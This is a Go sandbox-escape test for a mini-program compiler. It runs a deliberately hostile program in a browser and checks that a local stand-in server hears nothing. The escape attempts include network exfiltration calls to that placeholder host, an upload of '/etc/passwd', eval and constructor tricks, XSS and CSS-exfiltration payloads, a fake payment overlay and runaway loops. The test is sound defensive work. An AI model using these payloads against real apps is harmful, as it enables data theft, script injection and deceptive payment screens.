package check

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"github.com/chromedp/chromedp"

	"livewell/internal/mini/compiler"
)

// ways are what a hostile program tries in its code. Each is an expression that
// gives, or promises, something truthy where it got out. OUT is a server that
// nobody may reach.
var ways = []string{
	// The network
	`fetch("OUT/fetch")`,
	`globalThis["fe" + "tch"]("OUT/fetch2")`,
	`new XMLHttpRequest().open("GET", "OUT/xhr")`,
	`new WebSocket("WSOUT/ws")`,
	`new EventSource("OUT/es")`,
	`new WebTransport("https://127.0.0.1/wt")`,
	`new RTCPeerConnection({ iceServers: [{ urls: "turn:127.0.0.1?transport=tcp", username: "a", credential: "b" }] })`,
	`navigator.sendBeacon("OUT/beacon")`,
	`navigator.serviceWorker.register("OUT/sw")`,
	`import("OUT/import.js")`,
	`import("data:text/javascript,export default 1")`,
	`importScripts("OUT/scripts.js")`,
	`importScripts("data:text/javascript,self.got=1")`,
	`self.importScripts(URL.createObjectURL(new Blob(["self.got = 1"]))), got`,
	`new Request("OUT/request") && caches.open("x")`,
	`my.request({ url: "OUT/request" }).then(() => true)`,
	`my.downloadFile({ url: "OUT/download" }).then(() => true)`,
	`my.uploadFile({ url: "OUT/upload", filePath: "/etc/passwd" }).then(() => true)`,
	`my.connectSocket({ url: "WSOUT/socket" }).then(() => true)`,
	`new FontFace("x", "url(OUT/font.ttf)").load().then(() => true)`,
	`my.loadFontFace({ family: "x", source: "url(OUT/font2.ttf)" }).then(() => true)`,
	// Code made of text
	`eval("1")`,
	`(0, eval)("1")`,
	`new Function("return 1")()`,
	`(() => {}).constructor("return 1")()`,
	`(async () => {}).constructor("return 1")()`,
	`(function* () {}).constructor("yield 1")().next().value`,
	`(async function* () {}).constructor("yield 1")().next()`,
	`Reflect.construct(Object.getPrototypeOf(async () => {}).constructor, ["return 1"])()`,
	`new Promise((r) => { globalThis.ran = () => r(true); setTimeout("ran()", 0); setTimeout(() => r(false), 200) })`,
	`new Promise((r) => { globalThis.ran2 = () => r(true); setInterval("ran2()", 0); setTimeout(() => r(false), 200) })`,
	`WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => true)`,
	`new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
	// Other Workers
	`new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))`,
	`new Worker("data:text/javascript,postMessage(1)")`,
	`new SharedWorker("data:text/javascript,1")`,
	`new BroadcastChannel("x")`,
	// Storage of others
	`indexedDB.open("x")`,
	`caches.keys()`,
	`localStorage.length + 1`,
	`navigator.storage.getDirectory()`,
	`navigator.locks.request("x", () => 1)`,
	`cookieStore.getAll()`,
	`my.getStorageSync({ key: "__proto__" }).data`,
	// The page around
	`window.parent`,
	`document.cookie`,
	`top.location = "OUT/top"`,
	`self.parent`,
	`location.href = "OUT/location"`,
	// The way to the host
	`self.postMessage({ say: "call", name: "tradePay" })`,
	`DedicatedWorkerGlobalScope.prototype.postMessage.call(self, { say: "pong" })`,
	`Object.getPrototypeOf(self).postMessage`,
	`self.addEventListener("message", () => {}), true`,
	`EventTarget.prototype.addEventListener.call(self, "message", () => {}), true`,
	`(self.onmessage = () => {}, self.onmessage === null ? false : Object.getOwnPropertyDescriptor(self, "onmessage")?.set !== undefined)`,
	`self.dispatchEvent(new MessageEvent("message", { data: { say: "start" } }))`,
	`new MessageChannel()`,
	`my.constructor.constructor("return 1")()`,
	`my.call("constructor")`,
	`my["storage.clear"]().then(() => true)`,
	`my.livewellSecret().then(() => true)`,
	`my.tradePay({ tradeNO: "1" }).then((r) => r.resultCode === "9000")`,
}

const hostilePage = `<view id="page"><text id="done">{{held}} held, {{out}} out</text>
<image src="OUT/image.png"/><image src="//PLAIN/image2.png"/><cover-image src="OUT/cover.png"/>
<video src="OUT/video.mp4" poster="OUT/poster.png"/><audio src="OUT/audio.mp3"/>
<view style="background-image: url(OUT/style.png)">x</view>
<view class="leak">x</view><input value="secret" class="leak"/>
<iframe src="OUT/iframe"/><script src="OUT/script.js"/><object data="OUT/object"/><embed src="OUT/embed"/>
<link rel="stylesheet" href="OUT/link.css"/><meta http-equiv="refresh" content="0;url=OUT/meta"/><base href="OUT/"/>
<form action="OUT/form" onSubmit="none"><button id="send" form-type="submit">send</button></form>
<navigator id="nav" url="OUT/navigator">go</navigator><web-view src="OUT/webview"/>
<rich-text nodes="{{html}}"/>
<view class="sheet" id="fake">Pay 1.00</view></view>`

const html = `<img src=OUT/rich.png onerror=parent.x=1><script>parent.x=1</script><iframe src=OUT/rich-frame></iframe>` +
	`<a id=rich href=OUT/rich-link>link</a><a href=javascript:parent.x=1>js</a><svg onload=parent.x=1><image href=OUT/svg.png /></svg>` +
	`<style>@import url(OUT/rich.css)</style><form action=OUT/rich-form><input name=a></form><meta http-equiv=refresh content=0;url=OUT/rich-meta>` +
	`<p style="background:url(OUT/rich-style.png)">p</p><base href=OUT/><object data=OUT/rich-object></object><video src=OUT/v poster=OUT/p></video>`

const leak = `@import url("OUT/import.css");
@import "OUT/import2.css";
@font-face { font-family: f; src: url(OUT/face.ttf) }
.leak { font-family: f; background: url("OUT/css.png"); cursor: url(OUT/cursor.cur), auto; list-style: url(OUT/list.png) }
input[value^="s"] { background: image-set("OUT/attr.png" 1x) }
.leak::before { content: url(OUT/content.png) }
.sheet { position: fixed; inset: -2000px; z-index: 2147483647; background: #fff }`

// TestHostileProgramsStayInside runs a program that tries every way out that we
// know, in a real browser, against a server that must hear nothing.
func TestHostileProgramsStayInside(t *testing.T) {
	var mu sync.Mutex
	var heard []string
	out := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		heard = append(heard, r.URL.Path)
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer out.Close()
	plain := strings.TrimPrefix(out.URL, "http://")
	point := func(s string) string {
		return strings.NewReplacer("WSOUT", "ws://"+plain, "OUT", out.URL, "PLAIN", plain).Replace(s)
	}
	var tries strings.Builder
	for _, w := range ways {
		name, err := json.Marshal(w)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&tries, "[%s, async () => %s],\n", name, "("+point(w)+")")
	}
	text, err := json.Marshal(point(html))
	if err != nil {
		t.Fatal(err)
	}
	p, err := compiler.Build(fstest.MapFS{
		"app.json": {Data: []byte(`{"pages": ["p/p"]}`)},
		"p/p.axml": {Data: []byte(point(hostilePage))},
		"p/p.acss": {Data: []byte(point(leak))},
		"p/p.js": {Data: []byte(`const tries = [` + tries.String() + `];
Page({ data: { held: 0, out: 0, html: ` + string(text) + ` },
  async onReady() {
    let held = 0, out = 0;
    for (const [name, run] of tries) {
      let got = false;
      try { got = await Promise.race([run(), new Promise((r) => setTimeout(() => r(false), 400))]) } catch {}
      if (got) { out++; console.log("OUT", name) } else held++;
    }
    this.setData({ held, out });
  },
  spin() { for (;;) {} },
});`)},
	}, compiler.Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := browse(t, p)
	want := fmt.Sprintf("%d held, 0 out", len(ways))
	var v seen
	for deadline := time.Now().Add(90 * time.Second); !strings.Contains(v.Text, want) && time.Now().Before(deadline); {
		if v, err = s.settled(); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(v.Text, "out") && !strings.Contains(v.Text, "0 held") && !strings.Contains(v.Text, want) {
			break
		}
	}
	if !strings.Contains(v.Text, want) {
		t.Errorf("the page says %q, want %q", words(v.Text), want)
	}
	for _, l := range v.Logs {
		if strings.HasPrefix(l.Text, "OUT") {
			t.Error("got out by", strings.TrimPrefix(l.Text, "OUT "))
		}
	}
	for _, step := range []string{"tap rich-text a", "tap #send", "tap #nav"} {
		s.do(t, step)
	}
	state, err := chromedp.Run(s.tab, chromedp.Evaluate[string](`JSON.stringify([typeof x, location.pathname, document.querySelectorAll("dialog").length,
		(() => { const b = document.querySelector(".bar .close").getBoundingClientRect(); return document.elementFromPoint(b.x + 5, b.y + 5).className })()])`))
	if err != nil {
		t.Fatal(err)
	}
	if state != `["undefined","/try",0,"icon close"]` {
		t.Errorf("the page around is %s", state)
	}
	// That it would have heard something is shown by the page around, which may.
	if _, err := chromedp.Run(s.tab, chromedp.Evaluate[string](`fetch("`+out.URL+`/control").then(() => "")`, awaited)); err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	defer mu.Unlock()
	if !slices.Equal(heard, []string{"/control"}) {
		t.Errorf("the server outside heard %v", heard)
	}
}

// TestABusyProgramLeavesTheHostFree: a loop without end, and data without measure.
func TestABusyProgramLeavesTheHostFree(t *testing.T) {
	for name, body := range map[string]string{
		"loop":    `for (;;) {}`,
		"setData": `const big = "x".repeat(30e6); for (let i = 0; ; i++) this.setData({ big: big + i });`,
		"calls":   `for (let i = 0; i < 200000; i++) my.getNetworkType();`,
	} {
		t.Run(name, func(t *testing.T) {
			p, err := compiler.Build(fstest.MapFS{
				"app.json": {Data: []byte(`{"pages": ["p/p"]}`)},
				"p/p.axml": {Data: []byte(`<view id="go" onTap="go">go {{big}}</view>`)},
				"p/p.js":   {Data: []byte(`Page({ data: { big: "" }, go() { ` + body + ` } })`)},
			}, compiler.Options{})
			if err != nil {
				t.Fatal(err)
			}
			s := browse(t, p)
			v, err := s.at("#go")
			if err != nil {
				t.Fatal(err)
			}
			s.press(t, v)
			// The host's own page answers though the program does not.
			began := time.Now()
			if _, err := chromedp.Run(s.tab, chromedp.Evaluate[string](`new Promise((r) => setTimeout(() => r("still here"), 300))`, awaited)); err != nil {
				t.Fatal(err)
			}
			if took := time.Since(began); took > 2500*time.Millisecond {
				t.Errorf("the host answered after %v", took)
			}
			if name != "loop" {
				return
			}
			asked, err := chromedp.Run(s.tab, chromedp.Evaluate[string](`new Promise((r) => {
				const look = () => { const d = document.querySelector("dialog"); d ? r(d.textContent) : setTimeout(look, 100) };
				look();
			})`, awaited))
			if err != nil || !strings.Contains(asked, "does not answer") {
				t.Errorf("the person is asked %q, %v", asked, err)
			}
			left, err := chromedp.Run(s.tab, chromedp.Evaluate[string](`new Promise((r) => {
				document.querySelector("dialog button").click();
				setTimeout(() => r(String(document.querySelectorAll("iframe").length)), 300);
			})`, awaited))
			if err != nil || left != "0" {
				t.Errorf("%s frames are left of a program that was closed, %v", left, err)
			}
		})
	}
}
